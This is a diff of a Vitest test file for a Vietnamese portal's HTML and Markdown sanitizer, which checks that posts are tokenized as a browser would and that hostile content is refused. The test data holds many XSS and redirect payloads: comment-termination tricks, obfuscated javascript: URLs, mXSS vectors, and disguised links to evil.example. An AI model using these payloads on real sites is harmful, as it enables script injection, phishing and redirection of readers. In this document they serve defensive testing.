@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { checkPostBody, type BodyCheckContext } from '../../src/lib/posts/body-check.ts';
 import { scanHtml, positionAt } from '../../src/lib/posts/html-scan.ts';
 import { explainMdxReason, splitPostFrontmatter } from '../../src/lib/posts/parse-body.ts';
-import { classifyUrl, decodeCharacterReferences, resolvePostAsset, urlScheme } from '../../src/lib/posts/urls.ts';
+import { classifyUrl, resolvePostAsset } from '../../src/lib/posts/urls.ts';
 
 const FILE = 'content/posts/phuong-tran-phu/2024-03-05-bai.md';
 const context = (format: 'md' | 'mdx' = 'md'): BodyCheckContext => ({
@@ -36,17 +36,12 @@ describe('classifyUrl: as a browser reads the address', () => {
     ['vbscript:msgbox', 'other-scheme'],
     ['//tracker.example/p.gif', 'protocol-relative'],
     ['\\\\tracker.example/p.gif', 'protocol-relative'],
+    ['/\\tracker.example/p.gif', 'protocol-relative'],
+    ['/\t/tracker.example/p.gif', 'protocol-relative'],
+    ['\\/tracker.example/p.gif', 'protocol-relative'],
+    ['/chi-so/\\1-4/', 'relative'],
   ] as const)('%j → %s', (url, kind) => {
     expect(classifyUrl(url)).toBe(kind);
-  });
-
-  it.each([
-    ['jav&#x61;script&colon;alert(1)', 'javascript:alert(1)'],
-    ['&#106;avascript:x', 'javascript:x'],
-    ['Chuyển đổi số &amp; đời sống', 'Chuyển đổi số & đời sống'],
-  ])('decodes character references in %j', (encoded, decoded) => {
-    expect(decodeCharacterReferences(encoded)).toBe(decoded);
-    expect(urlScheme(decoded)).toBe(decoded.includes(':') ? decoded.split(':')[0] : undefined);
   });
 
   it.each([
@@ -61,25 +56,56 @@ describe('classifyUrl: as a browser reads the address', () => {
   });
 });
 
-describe('scanHtml: finds every tag start, closed or not', () => {
-  it('reads names and decoded-later attributes', () => {
+describe('scanHtml: tokenized by parse5 as a browser does', () => {
+  const summary = (html: string) =>
+    scanHtml(html).map((token) => (token.type === 'tag' ? `${token.closing ? '/' : ''}${token.name}` : token.type === 'comment' ? `comment:${token.kind}:${token.source}` : `${token.type}:${token.source}`));
+
+  it('reads names, attributes decoded by the tokenizer, and offsets', () => {
     expect(scanHtml('<abbr title="Chuyển đổi số">CĐS</abbr>')).toEqual([
       { type: 'tag', offset: 0, name: 'abbr', closing: false, attributes: [{ name: 'title', value: 'Chuyển đổi số' }] },
       { type: 'tag', offset: 31, name: 'abbr', closing: true, attributes: [] },
     ]);
   });
+
   it.each([
-    ['<script', 'script'],
-    ['<SCRIPT SRC=x>', 'script'],
-    ['<img src=x onerror=alert(1)//', 'img'],
-    ['<svg/onload=alert(1)>', 'svg'],
-  ])('%j', (html, name) => {
+    // Where the browser ends the comment, and the attack that follows it is a live tag.
+    ['<!--> <meta http-equiv="refresh" content="0;url=https://evil.example">', ['comment:comment:<!-->', 'meta']],
+    ['<!---> <base href="https://evil.example/">', ['comment:comment:<!--->', 'base']],
+    ['<!-- a --!> <form action="https://evil.example/">', ['comment:comment:<!-- a --!>', 'form']],
+    ['<!-- <!-- --> <link rel="stylesheet" href="https://evil.example/x.css">', ['comment:comment:<!-- <!-- -->', 'link']],
+    ['<![CDATA[ x ]]><iframe src="https://evil.example/">', ['comment:cdata:<![CDATA[ x ]]>', 'iframe']],
+    ['<?xml version="1.0"?><embed src="https://evil.example/x">', ['comment:processing-instruction:<?xml version="1.0"?>', 'embed']],
+    ['</ x><object data="https://evil.example/x">', ['comment:bogus-end-tag:</ x>', 'object']],
+    ['<!x><svg onload=alert(1)>', ['comment:declaration:<!x>', 'svg']],
+    // "-- >" does not end a comment: everything to the next "-->" is inside it.
+    ['<!-- a -- > <script>x</script> -->', ['comment:comment:<!-- a -- > <script>x</script> -->']],
+    ['<!--[if IE]><script>alert(1)</script><![endif]-->', ['comment:comment:<!--[if IE]><script>alert(1)</script><![endif]-->']],
+    ['<!-- [html-validate-disable-next] --><meta http-equiv="refresh" content="0;url=https://evil.example">', ['comment:comment:<!-- [html-validate-disable-next] -->', 'meta']],
+    ['<!DOCTYPE html>', ['doctype:<!DOCTYPE html>']],
+    // An unfinished tag at the end would swallow what comes after it.
+    ['chữ <b title="x', ['unfinished:<b title="x']],
+    ['a < b <b title="x', ['unfinished:<b title="x']],
+    ['<!-- chưa đóng', ['comment:comment:<!-- chưa đóng']],
+    // After <style> the text is raw: no tags until </style>, as in the browser.
+    ['<style><!--</style><b>-->', ['style', '/style', 'b']],
+    // SVG CDATA sections are not comments inside <svg>; <svg> is refused anyway.
+    ['<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>', ['svg', '/svg']],
+  ])('%j', (html, expected) => {
+    expect(summary(html)).toEqual(expected);
+  });
+
+  it.each([
+    ['<a href="jav&#x61;script&colon;alert(1)">', 'javascript:alert(1)'],
+    ['<a href="&#106;avascript:x">', 'javascript:x'],
+    ['<a href=&#x6A;&#x61;vascript:x>', 'javascript:x'],
+    ['<a href="java&Tab;script:x">', 'java\tscript:x'],
+    ['<abbr title="Chuyển đổi số &amp; đời sống">', 'Chuyển đổi số & đời sống'],
+    ['<abbr title="&notit;">', '&notit;'], // no semicolon-less reference in an attribute when a letter follows
+  ])('decodes %j as the browser does', (html, value) => {
     const [token] = scanHtml(html);
-    expect(token?.type === 'tag' && token.name).toBe(name);
+    expect(token?.type === 'tag' && token.attributes[0]?.value).toBe(value);
   });
-  it('keeps comments and declarations apart', () => {
-    expect(scanHtml('<!-- ghi chú --><?php echo 1 ?><!DOCTYPE html>').map((token) => token.type)).toEqual(['comment', 'declaration', 'declaration']);
-  });
+
   it('locates an offset by line and column', () => {
     expect(positionAt('a\nb\n<script>', 4, { line: 5, column: 3 })).toEqual({ line: 7, column: 1 });
     expect(positionAt('chữ <b>', 4, { line: 2, column: 3 })).toEqual({ line: 2, column: 7 });
@@ -117,6 +143,58 @@ describe('checkPostBody: one rule at a time, with the line', () => {
     expect(firstProblem(body)).toBe(expected);
   });
 
+  const COMMENT = ': bài viết không được chứa chú thích, vì trình duyệt có thể kết thúc chú thích ở chỗ khác người viết nghĩ (ở <!-->, --!>…) và hiện phần sau lên trang';
+  it.each([
+    // Each comment trick is refused where it starts, and the attack behind it is refused too.
+    ['<!--> <meta http-equiv="refresh" content="0;url=https://evil.example">', [`4:1 có chú thích HTML "<!-->"${COMMENT}`, '4:7 có thẻ <meta>: bài viết không được đổi thông tin của trang hay tự chuyển người đọc sang trang khác (http-equiv="refresh")']],
+    ['<!---> <base href="https://evil.example/">', [`4:1 có chú thích HTML "<!--->"${COMMENT}`, '4:8 có thẻ <base>: thẻ này đổi đích của mọi liên kết trên trang']],
+    ['<!-- x --!> <form action="https://evil.example/"><button>Gửi</button></form>', [`4:1 có chú thích HTML "<!-- x --!>"${COMMENT}`, '4:13 có thẻ <form>: bài viết không được có biểu mẫu gửi dữ liệu của người đọc đi nơi khác', '4:50 thẻ HTML <button> không được hỗ trợ trong bài viết']],
+    ['<!-- x -- > <link rel="stylesheet" href="https://evil.example/x.css"> -->', [`4:1 có chú thích HTML "<!-- x -- > <link rel="stylesheet" href="https:…"${COMMENT}`]],
+    ['<!-- <!-- --> <style>body{display:none}</style>', [`4:1 có chú thích HTML "<!-- <!-- -->"${COMMENT}`, '4:15 có thẻ <style>: bài viết không được thay đổi giao diện của cổng']],
+    ['<!--[if IE]><script>alert(1)</script><![endif]-->', [`4:1 có chú thích HTML "<!--[if IE]><script>alert(1)</script><![endif]-…"${COMMENT}`]],
+    ['<![CDATA[ x ]]><iframe src="https://evil.example/"></iframe>', [`4:1 có đoạn <![CDATA[…]]>, trình duyệt đọc như một chú thích HTML "<![CDATA[ x ]]>"${COMMENT}`, '4:16 có thẻ <iframe>: bài viết không được nhúng trang web khác']],
+    ['<?xml version="1.0"?><embed src="https://evil.example/x.swf">', [`4:1 có khai báo <?…?>, trình duyệt đọc như một chú thích HTML "<?xml version="1.0"?>"${COMMENT}`, '4:22 có thẻ <embed>: bài viết không được nhúng tệp hay chương trình']],
+    // Markdown leaves "</ x>" as text unless it is inside an HTML block.
+    ['</ x><object data="https://evil.example/x"></object>', ['4:6 có thẻ <object>: bài viết không được nhúng tệp hay chương trình']],
+    ['<details>\n</ x><object data="https://evil.example/x"></object>', [`5:1 có thẻ đóng sai dạng, trình duyệt đọc như một chú thích HTML "</ x>"${COMMENT}`, '5:6 có thẻ <object>: bài viết không được nhúng tệp hay chương trình']],
+    ['<!x><svg onload="alert(1)"></svg>', [`4:1 có khai báo <!…>, trình duyệt đọc như một chú thích HTML "<!x>"${COMMENT}`, '4:5 có thẻ <svg>: hình SVG viết thẳng vào bài có thể chứa mã và làm trình duyệt đọc sai phần sau']],
+    ['<!-- [html-validate-disable-next meta-refresh] -->\n<meta http-equiv="refresh" content="0;url=https://evil.example">', [`4:1 có chú thích HTML "<!-- [html-validate-disable-next meta-refresh] …" (chú thích này còn tắt bộ kiểm tra của cổng)${COMMENT}`, '5:1 có thẻ <meta>: bài viết không được đổi thông tin của trang hay tự chuyển người đọc sang trang khác (http-equiv="refresh")']],
+    ['<details>\n<b title="x\n\nhết" onmouseover="alert(1)">', ['5:1 thẻ HTML "<b title="x" chưa đóng: thiếu dấu > hoặc dấu nháy đóng, nên phần viết sau đó có thể bị trình duyệt đọc thành thuộc tính của thẻ']],
+  ])('.md refuses the comment trick %j and what follows it', (body, expected) => {
+    expect(checkPostBody(`\n\n\n${body}`, context()).map((issue) => `${issue.line}:${issue.column} ${issue.message}`)).toEqual(expected);
+  });
+
+  it.each([
+    ['<meta http-equiv="refresh" content="0 https://evil.example">', 'meta'],
+    ['<base href="https://evil.example/">', 'base'],
+    ['<form action="https://evil.example/"></form>', 'form'],
+    ['<link rel="import" href="https://evil.example/">', 'link'],
+    ['<embed src="x.swf">', 'embed'],
+    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', 'math'],
+    ['<template><script>alert(1)</script></template>', 'template'],
+    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', 'noscript'],
+    ['<frameset onload="alert(1)">', 'frameset'],
+  ])('.md refuses %j with the element named', (body, name) => {
+    const [issue] = checkPostBody(`\n\n\n${body}`, context());
+    expect(issue?.message).toMatch(new RegExp(`^có thẻ <${name}>: `));
+    expect(issue?.fix).toBeTruthy();
+    expect([issue?.line, issue?.column]).toEqual([4, 1]);
+  });
+
+  it.each([
+    ['<a href="jav&#x61;script&colon;alert(1)">x</a>', '4:1 địa chỉ "javascript:alert(1)" chạy mã JavaScript khi được mở'],
+    ['<a href="java&Tab;script:alert(1)">x</a>', '4:1 địa chỉ "java script:alert(1)" chạy mã JavaScript khi được mở'],
+    ['<a href="java&NewLine;script:alert(1)">x</a>', '4:1 địa chỉ "java script:alert(1)" chạy mã JavaScript khi được mở'],
+    ['<a href=" &#14;javascript:alert(1)">x</a>', '4:1 địa chỉ "\u000ejavascript:alert(1)" chạy mã JavaScript khi được mở'],
+    ['[Bấm](/\\evil.example/dang-nhap)', '4:1 địa chỉ "/\\evil.example/dang-nhap" trông như một đường dẫn trên cổng nhưng trình duyệt mở sang máy chủ khác "evil.example"'],
+    ['[Bấm](//evil.example/)', '4:1 địa chỉ "//evil.example/" trông như một đường dẫn trên cổng nhưng trình duyệt mở sang máy chủ khác "evil.example"'],
+    ['[Bấm](https:evil.example)', '4:1 địa chỉ "https:evil.example" thiếu hai dấu // sau "https:"'],
+    ['[Bấm](https://dichvucong.gov.vn@evil.example/)', '4:1 địa chỉ "https://dichvucong.gov.vn@evil.example/" có phần đứng trước dấu @, nên thật ra dẫn tới máy chủ "evil.example"'],
+    ['[Bấm](file:///etc/passwd)', '4:1 địa chỉ "file:///etc/passwd" dùng giao thức "file:" không được hỗ trợ'],
+  ])('.md refuses the disguised address in %j', (body, expected) => {
+    expect(firstProblem(`\n\n\n${body}`)).toBe(expected);
+  });
+
   it.each([
     ["\n\n\nimport Tracker from './tracker.js'", '4:1 có lệnh import "import Tracker from \'./tracker.js\'": bài viết là nội dung, không được nạp mã hay thành phần từ nơi khác'],
     ['\n\n\nexport const meta = {}', '4:1 có lệnh export "export const meta = {}": bài viết là nội dung, không được khai báo mã'],
@@ -133,6 +211,10 @@ describe('checkPostBody: one rule at a time, with the line', () => {
     ['\n\n\n<Figure>\n\n![Ảnh](./anh-hop.jpg)\n\n</Figure>', '4:1 thành phần <Figure> thiếu thuộc tính "caption"'],
     ['\n\n\nXem <IndicatorLink id="9.9" />', '4:5 không có chỉ số "9.9" trong Phụ lục'],
     ['\n\n\n<a href="javascript:alert(1)">Bấm</a>', '4:1 địa chỉ "javascript:alert(1)" chạy mã JavaScript khi được mở'],
+    ['\n\n\n<a href="jav&#x61;script&colon;alert(1)">Bấm</a>', '4:1 địa chỉ "javascript:alert(1)" chạy mã JavaScript khi được mở'],
+    ['\n\n\n<meta httpEquiv="refresh" content="0;url=https://evil.example" />', '4:1 có thẻ <meta>: bài viết không được đổi thông tin của trang hay tự chuyển người đọc sang trang khác (http-equiv="refresh")'],
+    ['\n\n\n<base href="https://evil.example/" />', '4:1 có thẻ <base>: thẻ này đổi đích của mọi liên kết trên trang'],
+    ['\n\n\n[Bấm](/\\evil.example/)', '4:1 địa chỉ "/\\evil.example/" trông như một đường dẫn trên cổng nhưng trình duyệt mở sang máy chủ khác "evil.example"'],
     ['\n\n\nMột dấu { chưa đóng', '4:20 sai cú pháp MDX (thiếu dấu } đóng cho một dấu { mở)'],
     ['\n\n\n<Callout>\nChưa đóng', '4:1 sai cú pháp MDX (thiếu thẻ đóng </Callout>)'],
     ['\n\n\n<!-- ghi chú -->', '4:2 sai cú pháp MDX (MDX không nhận chú thích dạng <!-- -->)'],
@@ -143,7 +225,9 @@ describe('checkPostBody: one rule at a time, with the line', () => {
   it.each([
     ['Markdown thường, **đậm**, *nghiêng*, [liên kết](https://dichvucong.gov.vn) và [thư](mailto:a@b.vn).', 'md'],
     ['| Phường | Số bài |\n| --- | --- |\n| Trần Phú | 21 |', 'md'],
-    ['<abbr title="Chuyển đổi số">CĐS</abbr>, H<sub>2</sub>O, x<sup>2</sup>, <br> <!-- ghi chú -->', 'md'],
+    ['<abbr title="Chuyển đổi số">CĐS</abbr>, H<sub>2</sub>O, x<sup>2</sup>, <br>', 'md'],
+    ['So sánh: 3 < 5 và a<b, &lt;script&gt; viết như chữ', 'md'],
+    ['[Chỉ số 1.4](/chi-so/1-4/), [mục](#muc-1), [gọi](tel:02043854321), [trang](../chuyen-doi-so/)', 'md'],
     ['<details open><summary>Xem thêm</summary>Nội dung</details>', 'md'],
     ['![Hội nghị tập huấn](./anh-hop.jpg)\n\n![Lớp học](anh/tap-huan.png)', 'md'],
     ['Dấu ngoặc nhọn viết thường: \\{ và \\}.', 'mdx'],
